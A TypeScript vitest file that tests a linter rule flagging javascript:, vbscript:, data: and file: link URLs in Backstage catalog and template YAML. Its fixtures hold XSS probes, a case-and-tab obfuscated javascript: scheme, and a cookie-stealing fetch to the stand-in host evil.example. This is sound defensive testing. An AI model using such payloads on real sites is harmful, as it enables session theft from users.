import { rm } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { runBin } from '../helpers/runBin.ts';
import { tempRepo } from '../helpers/tempRepo.ts';

const CONFIG = 'repoUrl: https://github.com/acme/control/blob/main/\ncatalog:\n  roots: [catalog/all.yaml]\n';
const ROOT = 'apiVersion: backstage.io/v1alpha1\nkind: Location\nmetadata: {name: root}\nspec:\n  targets: [./org.yaml, ./template.yaml]\n';
// catalog-model stores every one of these links (each parses as a URL); Backstage's Link throws on the
// javascript: ones, and no browser opens the others from a Backstage page.
const ORG = [
  'apiVersion: backstage.io/v1alpha1',
  'kind: Group',
  'metadata:',
  '  name: team-a',
  '  annotations:',
  '    backstage.io/source-location: "url:data:text/html,<script>alert(1)</script>"',
  '  links:',
  '    - url: https://grafana.example.com/d/team-a',
  '    - url: "javascript:fetch(`//evil.example/${document.cookie}`)"',
  '    - url: "  JaVa\\tscript:alert(1)"',
  '    - url: data:text/html,<script>alert(1)</script>',
  '    - url: mailto:team-a@example.com',
  '    - url: slack://channel?team=T1&id=C1',
  '    - {title: Old, url: "vbscript:msgbox(1)"}',
  '    - url: file:///etc/passwd',
  'spec:',
  '  type: team',
  '  children: []',
  '',
].join('\n');
const TEMPLATE = `apiVersion: scaffolder.backstage.io/v1beta3
kind: Template
metadata: {name: svc, title: Service}
spec:
  owner: team-a
  type: service
  parameters:
    - properties:
        name: {type: string}
  steps: []
  output:
    links:
      - {title: Docs, url: 'https://docs.example.com/\${{ parameters.name }}'}
      - {title: Run, url: 'javascript:alert("\${{ parameters.name }}")'}
`;

interface Finding { ruleId: string; file: string; message: string; hint?: string; range: { start: { line: number; column: number } } }

describe('link URLs Backstage shows but no browser opens from it', () => {
  it('are link-url-scheme errors where they are written, however the scheme is spelt; https, mailto and app schemes pass', async () => {
    const root = await tempRepo({ 'gitops.config.yaml': CONFIG, 'catalog/all.yaml': ROOT, 'catalog/org.yaml': ORG, 'catalog/template.yaml': TEMPLATE });
    const run = await runBin(['check', '--format', 'json'], root);
    await rm(root, { recursive: true, force: true });
    expect(run.stderr).toBe('');
    const found = (JSON.parse(run.stdout) as { diagnostics: Finding[] }).diagnostics.filter(d => d.ruleId === 'link-url-scheme');
    expect(found.map(d => `${d.file}:${d.range.start.line}:${d.range.start.column}`)).toEqual([
      'catalog/org.yaml:6:35',
      'catalog/org.yaml:9:12',
      'catalog/org.yaml:10:12',
      'catalog/org.yaml:11:12',
      'catalog/org.yaml:14:25',
      'catalog/org.yaml:15:12',
      'catalog/template.yaml:14:27',
    ]);
    expect(found[1].message).toBe("metadata.links[1].url is a javascript: URL, which Backstage shows as a link: Backstage's Link component refuses javascript: URLs as a security precaution: the card shows an error instead of its links, and a plugin that renders the URL as a plain link would run the script in the user's Backstage session.");
    expect(found[0].message).toMatch(/^The url: target of backstage\.io\/source-location is a data: URL/);
    expect(found[6].message).toMatch(/^spec\.output\.links\[1\]\.url is a javascript: URL/);
    expect(found[1].hint).toBe("Link to an https:// address (mailto:, tel: and apps' own schemes such as slack: work too), or remove the link.");
    // Nothing of the URL itself is repeated in a finding.
    expect(found.some(d => d.message.includes('cookie') || d.message.includes('alert'))).toBe(false);
    expect(run.status).toBe(1);
  }, 60_000);

  // Red team: spec.output.text Markdown with a javascript: link passed while the same URL in spec.output.links was an error.
  it("a javascript:, vbscript: or data: link or image in spec.output.text's Markdown is a link-url-scheme error at the text; https and mailto pass", async () => {
    const text = (content: string) => `apiVersion: scaffolder.backstage.io/v1beta3
kind: Template
metadata: {name: svc, title: Service}
spec:
  owner: team-a
  type: service
  parameters:
    - properties:
        name: {type: string}
  steps: []
  output:
    text:
      - title: Next
        content: |
          Read [the docs](https://docs.example.com/\${{ parameters.name }}) or mail [us](mailto:a@example.com).
          ${content}
`;
    const ORG_ONLY = 'apiVersion: backstage.io/v1alpha1\nkind: Group\nmetadata:\n  name: team-a\nspec:\n  type: team\n  children: []\n';
    for (const [content, found] of [
      ['[Open](javascript:fetch(`//evil.example/${document.cookie}`))', ['catalog/template.yaml:14:18']],
      ['![logo](data:image/svg+xml;base64,PHN2Zz4=)', ['catalog/template.yaml:14:18']],
      ['<vbscript:msgbox(1)>', ['catalog/template.yaml:14:18']],
      ['[x]: javascript:alert(1)', ['catalog/template.yaml:14:18']],
      ['See [the repo](https://github.com/acme/${{ parameters.name }}).', []],
    ] as const) {
      const root = await tempRepo({ 'gitops.config.yaml': CONFIG, 'catalog/all.yaml': ROOT, 'catalog/org.yaml': ORG_ONLY, 'catalog/template.yaml': text(content) });
      const run = await runBin(['check', '--format', 'json'], root);
      await rm(root, { recursive: true, force: true });
      expect(run.stderr).toBe('');
      const diagnostics = (JSON.parse(run.stdout) as { diagnostics: Finding[] }).diagnostics.filter(d => d.ruleId === 'link-url-scheme');
      expect(diagnostics.map(d => `${d.file}:${d.range.start.line}:${d.range.start.column}`), content).toEqual(found);
      if (found.length) expect(diagnostics[0].message).toMatch(/^spec\.output\.text\[0\]\.content links to a (javascript|data|vbscript): URL, in Markdown that Backstage shows on the task page after every run: /);
      expect(diagnostics.some(d => d.message.includes('cookie') || d.message.includes('alert'))).toBe(false);
    }
  }, 120_000);
});
